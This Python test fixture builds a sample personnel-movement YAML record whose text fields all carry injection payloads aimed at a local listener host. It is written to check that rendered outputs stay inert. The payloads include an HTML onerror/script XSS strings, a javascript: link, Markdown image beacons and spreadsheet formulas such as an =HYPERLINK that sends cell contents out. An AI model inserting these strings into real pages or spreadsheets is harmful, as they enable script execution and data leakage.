"""A valid record whose every text field tries to act on its reader (issue 22).

Names, roles, notes, titles and quotes carry Markdown images and links to a host the test
listens on, bare web and e-mail addresses, HTML with ``onerror``, Streamlit directives, LaTeX,
spreadsheet formulas and backslashes. Nothing of it may fetch, link, run, split or overwrite
anything in any output. The record is small and stands alone (its own document in ``seeds/``).
"""

from __future__ import annotations

from pathlib import Path

BACKSLASH = "\\"


def payloads(host: str) -> dict[str, str]:
    """The hostile strings, each pointing at ``host`` (``127.0.0.1:PORT`` of a listener)."""
    return {
        "image": f"![x](http://{host}/image.png)",
        "link": f"[click](http://{host}/link)",
        "auto": f"http://{host}/auto www.example.com ada@example.com",
        "tag": f"<img src=http://{host}/tag.png onerror=alert(1)>",
        "script": "<script>alert(2)</script>",
        "js": "[js](javascript:alert(3))",
        "directive": ":red[red] :material/home: $x^2$",
        "formula": f'=HYPERLINK("http://{host}/?"&A1,"x")',
        "plus": "+1+2",
        "minus": "-2+3",
        "at": "@SUM(1+1)",
        "qs": "||-Q42|P31|Q5||",
    }


def sentence(host: str) -> str:
    """The one sentence of the hostile document that the record quotes (verbatim)."""
    p = payloads(host)
    return (
        f"Die Forscherin {p['image']} Ada Example \\ wechselt von {p['tag']} zu Evil Corp {p['link']} "
        f"{p['auto']} {p['script']} {p['js']} {p['directive']} {p['formula']} {p['qs']}."
    )


def _q(text: str) -> str:
    """A YAML single-quoted scalar."""
    return "'" + text.replace("'", "''") + "'"


def write_project(root: Path, host: str) -> Path:
    """Write the hostile record and its document under ``root``; return the record's path."""
    p = payloads(host)
    quote = sentence(host)
    (root / "seeds").mkdir(parents=True, exist_ok=True)
    (root / "data").mkdir(parents=True, exist_ok=True)
    (root / "seeds" / "evil.txt").write_text(f"Vorspann.\n{quote}\nNachspann.\n", encoding="utf-8")
    evidence = f"""    evidence:
      - source: evil-source
        quote: {_q(quote)}
        translation: {_q(p["link"] + " " + p["formula"])}
"""
    claim_evidence = "\n".join("    " + line if line else line for line in evidence.split("\n"))
    text = f"""sources:
  evil-source:
    path: seeds/evil.txt
    title: {_q("Title " + p["image"] + " " + p["js"])}
    publisher: {_q(p["auto"] + " " + p["formula"])}
    language: de
    published: "2026-01"
    note: {_q("Note " + p["tag"] + " " + p["directive"])}

organizations:
  meta:
    name: Meta
    kind: company
  evil:
    name: {_q(p["image"] + " " + p["formula"])}
    aliases: [{_q(p["link"])}]
    kind: company
  evil-lab:
    name: {_q(p["minus"] + " " + p["auto"] + " " + BACKSLASH)}
    parent: evil
    kind: lab

people:
  ada:
    name: {_q(p["tag"] + " Ada Example " + BACKSLASH)}
    aliases: [{_q(p["image"])}]
    cohorts: [evil-cohort]
    note: {_q(p["link"] + " " + p["qs"])}
  bob:
    name: {_q(p["plus"] + " " + p["link"])}

cohorts:
  evil-cohort:
    name: {_q(p["image"] + " cohort")}
    size: 2
    description: {_q(p["auto"] + " " + p["directive"])}
    claims:
      - summary: {_q(p["at"] + " " + p["image"])}
        org: evil
        measure: left
        comparator: some
        as_of: "2026"
        as_of_estimated: true
{claim_evidence}
moves:
  - id: ada-meta-to-evil
    person: ada
    from: meta
    to: evil
    date: "2026-01"
    date_kind: reported
    role: {_q(p["plus"] + " " + p["image"])}
    from_role: {_q(p["minus"])}
    note: {_q(p["at"] + " " + p["auto"] + " " + p["qs"])}
{evidence}  - id: bob-evil-to-evil-lab
    person: bob
    from: evil
    to: evil-lab
    date: "2025"
    date_kind: effective
    certainty: rumoured
{evidence}  - id: group-meta-to-evil-lab
    group: {_q(p["image"] + " researchers")}
    headcount: 2
    from: meta
    to: evil-lab
    date: "2026-01"
    date_kind: reported
{evidence}
stays:
  - id: ada-at-evil
    person: ada
    org: evil
    as_of: "2026-01"
    role: {_q(p["formula"])}
{evidence}
positions:
  - id: ada-at-evil-lab
    person: ada
    org: evil-lab
    role: {_q(p["image"] + " " + p["at"])}
    start: "2020"
    end: "2024"
{evidence}  - id: bob-at-meta
    person: bob
    org: meta
    start: "2019"
{evidence}"""
    path = root / "data" / "events.yaml"
    path.write_text(text, encoding="utf-8")
    return path
